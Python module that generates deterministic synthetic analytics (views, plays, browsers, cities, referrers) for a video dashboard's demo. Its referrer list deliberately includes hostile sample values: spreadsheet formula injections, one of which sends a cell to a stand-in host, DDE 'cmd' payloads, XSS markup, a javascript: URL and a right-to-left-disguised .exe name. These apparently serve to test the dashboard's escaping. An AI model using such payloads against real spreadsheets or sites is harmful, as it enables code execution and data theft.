"""The numbers of the demo: nothing is stored, every figure is computed from the account's identity when it is read.

Who asks twice gets the same answer; hours add up to days, days to totals, and browsers, cities, referrers and videos to the
same number of views, for every day that is over. A report over hours must add up to the report over days, and that to the
total. So nothing is rounded per row: a label has one running number of views, every count is a steady function of it, and a
row is the difference of two points.
"""

import math
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import date, datetime, timedelta
from functools import cache, lru_cache
from hashlib import blake2b
from itertools import accumulate
from math import sin
from pathlib import Path
from random import Random
from typing import Final, NamedTuple
from uuid import UUID

from dashboard.platform_api.vocabulary import TestStatus
from dashboard.sandbox.models import ComparisonVideo, Organization, Video


@dataclass(frozen=True, slots=True)
class Period:
    """First and last day, both included."""

    start: date
    end: date

    def days(self) -> Iterator[date]:
        """Yield every day in order."""
        for offset in range((self.end - self.start).days + 1):
            yield self.start + timedelta(days=offset)


@dataclass(frozen=True, slots=True)
class AudienceVideo:
    """A video with what decides about its audience. `length` is in seconds."""

    id: str
    external_id: str
    title: str
    first_day: date
    length: float
    pull: float = 1.0
    """How much it attracts, compared with the others."""
    play_rate: float = 0.45
    """How many of its viewers press play, from 0 to 1."""
    shape: str = ""
    """What decides how its viewers leave; variants of one test share it, so that only their opening differs."""
    tests: tuple[tuple[date, date], ...] = ()
    """First and last day of each A/B test it takes part in: then each load of the test's page draws it or another variant."""


@dataclass(frozen=True, slots=True)
class Account:
    """An account at a moment: there are numbers from `first_day` until `now` (aware, UTC)."""

    id: str
    first_day: date
    now: datetime
    videos: tuple[AudienceVideo, ...]

    @property
    def today(self) -> "Account":
        """The same account, the same all day long: what is computed once a day is kept under it."""
        return replace(self, now=self.now.replace(hour=0, minute=0, second=0, microsecond=0))

    def video(self, video_id: UUID) -> AudienceVideo:
        """The video with this internal id. Raises StopIteration when the account has none."""
        return next(video for video in self.videos if video.id == str(video_id))


def dice(*words: object) -> Random:
    """Random numbers that are always the same for the same words."""
    digest = blake2b("\x1f".join(map(str, words)).encode(), digest_size=8).digest()
    return Random(int.from_bytes(digest))


def chance(*words: object) -> float:
    """One such number, from 0 to 1."""
    digest = blake2b("\x1f".join(map(str, words)).encode(), digest_size=8).digest()
    return int.from_bytes(digest) / 2**64


VIEWS_PER_VIDEO: Final = 13
"""Views a day that each video brings at the start."""
DOUBLED_AFTER: Final = 340  # days
WEEK: Final = (0.93, 0.86, 0.90, 1.0, 1.13, 1.17, 1.06)
"""Monday to Sunday: people drink coffee films towards the weekend."""
LAUNCHES: Final = (52, 131, 203, 290, 386)
"""Days after the first on which something was announced: a peak that fades within a week."""
BAD_DAY: Final = 251
"""The site was down for most of that day."""
DAY_SHAPE: Final = (52, 44, 30, 19, 12, 8, 7, 8, 12, 22, 34, 42, 47, 49, 53, 58, 56, 51, 49, 50, 52, 56, 63, 62)
"""Weight of every UTC hour: most viewers live three to six hours behind UTC."""
_PASSED: Final = tuple(part / sum(DAY_SHAPE) for part in accumulate(DAY_SHAPE, initial=0.0))


def views_on(account: Account, day: date) -> int:
    """Views of the whole account on a whole day; 0 before its first."""
    age = (day - account.first_day).days
    if age < 0:
        return 0
    growth = math.pow(2, age / DOUBLED_AFTER)
    season = 1 + 0.07 * math.sin(2 * math.pi * (day.timetuple().tm_yday - 60) / 365.25)
    launch = 1 + sum(0.55 * math.exp(-(age - start) / 2.5) for start in LAUNCHES if 0 <= age - start < 12)
    luck = dice(account.id, "day", day).uniform(0.94, 1.06) * (0.35 if age == BAD_DAY else 1)
    return round(VIEWS_PER_VIDEO * len(account.videos) * growth * season * launch * WEEK[day.weekday()] * luck)


def passed(hour: float) -> float:
    """Which part of a day's views has happened at this hour, from 0 to 24."""
    whole = min(23, int(hour))
    return _PASSED[whole] + (_PASSED[whole + 1] - _PASSED[whole]) * (min(hour, 24.0) - whole)


def hours_passed(day: date, now: datetime) -> float:
    """How many hours of `day` are over at `now`: 24 for a day before today, 0 for one after it."""
    if day != now.date():
        return 24.0 if day < now.date() else 0.0
    return now.hour + now.minute / 60


# name, weight, how much stronger it is at weekends
BROWSERS: Final = (
    ("Chrome", 520.0, 0.96),
    ("Safari", 214.0, 1.08),
    ("Samsung Internet", 82.0, 1.12),
    ("Edge", 58.0, 0.62),
    ("Firefox", 43.0, 0.95),
    ("Instagram", 31.0, 1.3),
    ("Opera", 19.0, 1.0),
    ("Android WebView", 12.0, 1.05),
    ("Brave", 9.0, 1.0),
    ("Facebook", 6.0, 1.25),
    ("DuckDuckGo", 4.0, 1.0),
    ("UC Browser", 2.0, 1.0),
)

_LONG: Final = "https://ads.example/r?" + "&".join(f"utm_step_{n}=cafe-especial-serra-alta-{n:03}" for n in range(52))
REFERRERS: Final = (
    ("https://serra-alta.example/lancamento", 300.0, 1.0),
    ("(direct)", 214.0, 1.0),
    ("https://l.instagram.com/", 163.0, 1.35),
    ("https://cursos.serra-alta.example/aulas/3", 100.0, 0.55),
    ("https://www.google.com/", 58.0, 0.95),
    ("https://cursos.serra-alta.example/aulas/1", 52.0, 0.5),
    ("https://boletim.estudio-mare.example/novembro", 30.0, 0.8),
    ("https://www.google.com.br/", 28.0, 0.95),
    ("https://serra-alta.example/", 26.0, 1.0),
    ("https://serra-alta.example/loja/microlote-7", 24.0, 1.15),
    ("https://l.facebook.com/", 21.0, 1.2),
    ("https://web.whatsapp.com/", 19.0, 1.0),
    ("https://www.youtube.com/", 17.0, 1.15),
    ("https://www.linkedin.com/", 12.0, 0.4),
    ("android-app://com.google.android.gm/", 11.0, 0.7),
    ("https://t.co/", 9.0, 1.1),
    ("https://www.google.pt/", 8.0, 0.95),
    ("https://boletim.estudio-mare.example/outubro", 8.0, 0.8),
    ("https://escola-do-cafe.example/turmas/2026", 8.0, 0.5),
    ("https://cooperativa.serra-alta.example/associados", 7.0, 0.6),
    ("https://revista-do-grao.example/melhores-cafes-do-ano", 7.0, 1.1),
    ("https://www.pinterest.com/", 5.0, 1.3),
    ("https://duckduckgo.com/", 5.0, 1.0),
    ("https://www.bing.com/", 5.0, 0.7),
    ("https://forum.baristas.example/viewtopic.php?t=4821&start=40", 4.0, 1.1),
    ("https://baristas.example/foro/metodos/v60?pagina=2", 4.0, 1.1),
    ("https://tueste.example/blog/altura-y-dulzor", 4.0, 1.0),
    ("https://slowbrew.example/stories/serra-alta", 4.0, 1.05),
    ("https://feira-do-cafe.example/expositores", 3.0, 0.9),
    ("https://xn--caf-dma.example/mapa?cidade=S%C3%A3o%20Paulo", 2.0, 1.0),
    ("http://localhost:3000/", 1.2, 0.2),
    ('=HYPERLINK("https://prize.example/?leak="&A1,"You won")', 1.0, 1.0),
    ("@SUM(1+1)*cmd|' /C calc'!A0", 0.8, 1.0),
    ("+5535999990000", 0.7, 1.0),
    ("-2+3+cmd|' /C calc'!A0", 0.6, 1.0),
    ("<script>alert(document.domain)</script>", 0.9, 1.0),
    ('"><img src=x onerror=alert(1)>', 0.7, 1.0),
    ("javascript:fetch('/dashboard/').then(alert)", 0.8, 1.0),
    ("https://\u0642\u0647\u0648\u0629.example/\u202egpj.exe", 0.7, 1.0),
    (_LONG, 0.6, 1.0),
)
"""The last nine were chosen by somebody hostile, or careless: formulas, markup, a script address, right-to-left, too long."""


class City(NamedTuple):
    """A place with viewers. `country` is a two-letter code; coordinates are in degrees."""

    name: str
    region: str
    country: str
    latitude: float
    longitude: float
    weight: float


@cache
def all_cities() -> tuple[City, ...]:
    """The 300 cities, most of them where coffee is grown or loved."""
    lines = (Path(__file__).parent / "seed" / "content" / "cities.tsv").read_text(encoding="utf-8").splitlines()[1:]
    rows = (line.split("\t") for line in lines)
    return tuple(
        City(
            row[0], region=row[1], country=row[2], latitude=float(row[3]), longitude=float(row[4]), weight=float(row[5])
        )
        for row in rows
    )


@dataclass(frozen=True)
class Blend:
    """How the views of a day spread over labels: constant weights, weekend habits, slow drift, and luck."""

    key: str
    weights: Sequence[float]
    weekends: Sequence[float]

    def on(self, day: date) -> list[float]:
        """The weight of every label on this day."""
        luck: Random = dice(self.key, day.isocalendar()[:2])
        week = day.toordinal() / 7
        weekend = day.weekday() > 4
        return [
            weight
            * (habit if weekend else 1.0)
            * (1 + 0.22 * sin(week / (4 + label % 5) + label))
            * (0.8 + 0.4 * luck.random())
            for label, (weight, habit) in enumerate(zip(self.weights, self.weekends, strict=True))
        ]


def own_taste(key: str, labels: Sequence[str], weights: Sequence[float]) -> list[float]:
    """The weights as one account or video sees them: nobody's audience is the average one."""
    return [weight * (0.72 + 0.56 * chance(key, label)) for label, weight in zip(labels, weights, strict=True)]


_COLUMNS: Final = ("id", "external_id", "title", "created_at", "length", "playable")


def read_account(organization: Organization, now: datetime) -> Account:
    """The organization's account as it is now. Costs two queries."""
    tests: dict[str, list[tuple[date, date]]] = {}
    truths: dict[str, tuple[str, float]] = {}
    variants = ComparisonVideo.objects.filter(comparison__organization=organization).select_related("comparison")
    for variant in variants.exclude(comparison__status=TestStatus.DRAFT):
        key, started = str(variant.video_id), variant.comparison.started_at
        truths[key] = (variant.comparison_id, variant.play_rate)
        if started:
            tests.setdefault(key, []).append((started.date(), (variant.comparison.finished_at or now).date()))
    videos = Video.objects.filter(organization=organization).order_by("created_at", "id").values_list(*_COLUMNS)
    return Account(
        id=str(organization.id),
        first_day=organization.created_at.date(),
        now=now,
        videos=tuple(_video(row, truths, tests) for row in videos),
    )


def _video(
    row: tuple[UUID, UUID, str, datetime, float, bool],
    truths: dict[str, tuple[str, float]],
    tests: dict[str, list[tuple[date, date]]],
) -> AudienceVideo:
    identifier, external_id, title, created_at, length, playable = row
    key = str(identifier)
    shape, play_rate = truths.get(key, (key, 0.34 + 0.26 * chance(key, "plays")))
    return AudienceVideo(
        id=key,
        external_id=str(external_id),
        title=title,
        first_day=created_at.date(),
        length=length,
        pull=0.12 / (0.12 + chance(key, "pull")) if playable else 0.0,
        play_rate=play_rate,
        shape=shape,
        tests=tuple(tests.get(key, ())),
    )


METRICS: Final = ("view", "unique_view", "play", "unique_play")
Counts = tuple[int, int, int, int]
NOTHING: Final[Counts] = (0, 0, 0, 0)


CLASSES: Final = ("first and played", "first, not played", "again and played", "again, not played")
"""What a visit is. Each visit is one of them, so labels that share them out never count more plays than views."""
PLAYED: Final = (True, False, True, False)
Classes = tuple[int, int, int, int]
NO_VISITS: Final[Classes] = (0, 0, 0, 0)


class Habits(NamedTuple):
    """How the viewers of one label behave: parts from 0 to 1."""

    unique: float
    """Views that are somebody's first."""
    plays: float
    """First views that lead to a play."""
    again: float
    """Further views that lead to a play."""
    phase: float
    """Where the slow waves start, so that no two labels move together."""


def habits(key: str, plays: float | None = None) -> Habits:
    """Habits that are always the same for a key.

    `plays` sets the play rate of a video instead. Then four of five views are somebody's first of that video on that day: who
    loads the page of an A/B test again may see another variant, and counts in both. Each load is played as often as the first.
    """
    if plays is not None:
        return Habits(0.8, plays, plays, 6.28 * chance(key, "phase"))
    rate = 0.36 + 0.16 * chance(key, "plays")
    return Habits(
        0.76 + 0.08 * chance(key, "unique"), rate, 0.30 + 0.1 * chance(key, "again"), 6.28 * chance(key, "phase")
    )


def _part(whole: int, rate: float, phase: float, wave: float) -> int:
    """About `rate` of `whole`, swinging slowly around it; it never falls and never grows faster than `whole` does."""
    swing = 0.3 * min(rate, 1 - rate) * wave
    return int(rate * whole + swing * (math.sin(whole / wave + phase) - math.sin(phase)))


def counts(views: int, how: Habits) -> Counts:
    """view, unique_view, play, unique_play after so many views. A play has a view; a unique play has a unique view."""
    unique = _part(views, how.unique, how.phase, 170.0)
    unique_play = _part(unique, how.plays, how.phase + 1, 110.0)
    return views, unique, unique_play + _part(views - unique, how.again, how.phase + 2, 60.0), unique_play


def plus(first: Counts, other: Counts) -> Counts:
    """What was counted in both together."""
    return first[0] + other[0], first[1] + other[1], first[2] + other[2], first[3] + other[3]


def minus(later: Counts, earlier: Counts) -> Counts:
    """What was counted in between."""
    return later[0] - earlier[0], later[1] - earlier[1], later[2] - earlier[2], later[3] - earlier[3]


def classes_of(counts: Counts) -> Classes:
    """The visits by what they were."""
    view, unique_view, play, unique_play = counts
    again = play - unique_play
    return unique_play, unique_view - unique_play, again, view - unique_view - again


def counts_of(visits: Classes) -> Counts:
    """What the platform counts of visits."""
    first_played, first_left, again_played, again_left = visits
    first = first_played + first_left
    return first + again_played + again_left, first, first_played + again_played, first_played


def share_out(total: int, borders: Sequence[float], start: float) -> list[int]:
    """Split `total` by the running weights `borders`: whole numbers that add up to it. `start`, below 1, shifts the rounding."""
    if not borders or borders[-1] <= 0:
        return [0] * len(borders)
    scale = total / borders[-1]
    marks = [int(border * scale + start) for border in borders]
    marks[-1] = total
    return [after - before for before, after in zip([0, *marks], marks, strict=False)]


class Ledger:
    """Running views of every label of a report, day by day.

    `split(day)` gives the views of each label on that whole day; it is asked once for every day from `first` to today.
    """

    def __init__(self, first: date, now: datetime, labels: int, split: Callable[[date], Sequence[int]]) -> None:
        self.first = first
        self.days = max(0, (now.date() - first).days + 1)
        self._running: list[list[int]] = [[0] * labels]
        for number in range(self.days):
            today = split(first + timedelta(days=number))
            self._running.append([before + views for before, views in zip(self._running[-1], today, strict=True)])

    def on(self, label: int, day: date) -> int:
        """Views of a label on a whole day."""
        number = (day - self.first).days
        return self._running[number + 1][label] - self._running[number][label] if 0 <= number < self.days else 0

    def at(self, label: int, day: date, hour: float = 0.0) -> int:
        """Views of a label from the beginning until an hour of a day."""
        number = (day - self.first).days
        if number < 0:
            return 0
        if number >= self.days:
            return self._running[-1][label]
        before = self._running[number][label]
        start = (label * 0.618034 + number * 0.754878) % 1  # else every rare visitor would come at the same hour
        return before + int(passed(hour) * (self._running[number + 1][label] - before) + start)

    def until(self, label: int, day: date, now: datetime) -> int:
        """Views from the beginning until the end of `day`, or until `now` when that is earlier."""
        last = min(day, now.date())
        return self.at(label, last, hours_passed(last, now))

    def known(self, period: Period) -> Period | None:
        """The part of the period for which there are numbers, None when there are none."""
        start = max(period.start, self.first)
        end = min(period.end, self.first + timedelta(days=self.days - 1))
        return Period(start, end) if start <= end else None

    def days_of(self, period: Period) -> Iterator[date]:
        """The days of the period for which there are numbers."""
        if known := self.known(period):
            yield from known.days()


class PlaceLedger:
    """What was counted of every label, kept by class of visit. A day's labels add up to the day's videos, in every count."""

    def __init__(self, visits: Ledger, labels: int) -> None:
        self._visits, self._labels = visits, labels
        self.known, self.days_of = visits.known, visits.days_of

    def at(self, label: int, day: date, hour: float = 0.0) -> Counts:
        """Counts of a label from the beginning until an hour of a day."""
        read, labels = self._visits.at, self._labels
        return counts_of(
            (
                read(label, day, hour),
                read(label + labels, day, hour),
                read(label + 2 * labels, day, hour),
                read(label + 3 * labels, day, hour),
            )
        )

    def until(self, label: int, day: date, now: datetime) -> Counts:
        """Counts from the beginning until the end of `day`, or until `now` when that is earlier."""
        last = min(day, now.date())
        return self.at(label, last, hours_passed(last, now))


def borders(weights: Sequence[float]) -> list[float]:
    """Running sum of weights, for `share_out`."""
    return list(accumulate(weights))


NOVELTY: Final = 2.2
"""A new video attracts so much more than usual on its first day; that fades within weeks."""
TEST_SHARE: Final = 0.2
"""Loads of a running A/B test for each of its variants, as a part of what all other videos get."""
LABELS: Final = {
    "browser": BROWSERS,
    "referrer": REFERRERS,
    "city": tuple((f"{city.name}, {city.country}", city.weight**1.2, 1.0) for city in all_cities()),
}
"""Name, weight and weekend habit of every label of a report."""


def video_ledger(account: Account) -> Ledger:
    """Views of every video of the account, in the order of `account.videos`."""
    return _video_ledger(account.today)


def place_ledger(account: Account, kind: str, video: AudienceVideo | None) -> PlaceLedger:
    """What was counted by the labels of `kind`, of the account or one of its videos."""
    return _place_ledger(account.today, kind, video)


@lru_cache(maxsize=16)
def _video_ledger(account: Account) -> Ledger:
    def split(day: date) -> list[int]:
        luck = dice(account.id, "videos", day)
        weights = [_pull(video, day) * (0.8 + 0.4 * luck.random()) for video in account.videos]
        rest, views = sum(weights), views_on(account, day)
        tests: dict[str, list[int]] = {}
        for number, video in enumerate(account.videos):
            if any(start <= day <= end for start, end in video.tests):
                tests.setdefault(video.shape, []).append(number)
                weights[number] = rest * TEST_SHARE
        total = sum(weights)
        for test, variants in tests.items():
            part = rest * TEST_SHARE * len(variants)
            drawn = _draw(dice(account.id, test, day), variants, round(views * part / total))
            for number in variants:
                weights[number] = part * drawn.count(number) / len(drawn)
        return share_out(views, borders(weights), luck.random())

    return Ledger(account.first_day, account.now, len(account.videos), split)


def _draw(luck: Random, variants: list[int], loads: int) -> list[int]:
    """What each load of a test's page shows: one of the variants, anew each time (gaps 15, A7)."""
    return luck.choices(variants, k=loads or 1)


def _pull(video: AudienceVideo, day: date) -> float:
    age = (day - video.first_day).days
    return video.pull * (1 + NOVELTY * math.exp(-age / 18)) if age >= 0 else 0.0


@lru_cache(maxsize=16)
def _daily_classes(account: Account, video: AudienceVideo | None) -> dict[date, Classes]:
    """The visits of every whole day by what they were, of one video or of all together: what the reports of videos count."""
    ledger, classes = video_ledger(account), {}
    columns = [account.videos.index(video)] if video else range(len(account.videos))
    ways = [habits(account_video.id, account_video.play_rate) for account_video in account.videos]
    before = dict.fromkeys(columns, NOTHING)
    for number in range(ledger.days):
        day, total = account.first_day + timedelta(days=number), NOTHING
        for column in columns:
            after = counts(ledger.at(column, day + timedelta(days=1)), ways[column])
            total = plus(total, minus(after, before[column]))
            before[column] = after
        classes[day] = classes_of(total)
    return classes


@lru_cache(maxsize=64)
def _place_ledger(account: Account, kind: str, video: AudienceVideo | None) -> PlaceLedger:
    names = [name for name, _, _ in LABELS[kind]]
    key = f"{account.id} {kind} {video.id if video else ''}"
    weights = own_taste(key, names, [weight for _, weight, _ in LABELS[kind]])
    blend = Blend(key, weights, [weekend for _, _, weekend in LABELS[kind]])
    eager = [0.8 + 0.4 * chance(key, name, "plays") for name in names]
    daily = _daily_classes(account, video)
    sums: dict[tuple[int, bool], tuple[list[float], list[float]]] = {}

    def split(day: date) -> list[int]:
        week = (day.toordinal() // 7, day.weekday() > 4)
        if week not in sums:
            of_week = blend.on(day)
            players = [weight * factor for weight, factor in zip(of_week, eager, strict=True)]
            sums[week] = borders(of_week), borders(players)
        plain, players_borders = sums[week]
        shared: list[int] = []
        for number, total in enumerate(daily.get(day, NO_VISITS)):
            shared += share_out(total, players_borders if PLAYED[number] else plain, chance(key, day, number))
        return shared

    return PlaceLedger(Ledger(account.first_day, account.now, len(CLASSES) * len(names), split), len(names))
